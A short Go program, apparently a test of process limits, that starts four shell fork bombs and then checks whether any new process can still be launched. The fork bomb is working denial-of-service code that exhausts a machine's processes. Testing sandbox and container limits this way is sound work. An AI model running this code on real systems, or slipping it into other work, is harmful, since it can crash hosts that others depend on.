// A fork bomb: shells that fork forever, started four times over; then wait.
package main

import (
	"fmt"
	"os"
	"os/exec"
	"time"
)

func main() {
	fmt.Println("start")
	for i := 0; i < 4; i++ {
		cmd := exec.Command("/bin/sh", "-c", "b() { b | b & }; b; sleep 1000")
		if err := cmd.Start(); err != nil {
			fmt.Println("start failed:", err)
		}
	}
	// Once the bombs have taken every process the box may have, try to start one more.
	time.Sleep(500 * time.Millisecond)
	for i := 0; i < 20; i++ {
		if err := exec.Command("/bin/true").Run(); err != nil {
			fmt.Fprintln(os.Stderr, "one more:", err)
			break
		}
		time.Sleep(50 * time.Millisecond)
	}
	time.Sleep(time.Hour)
}
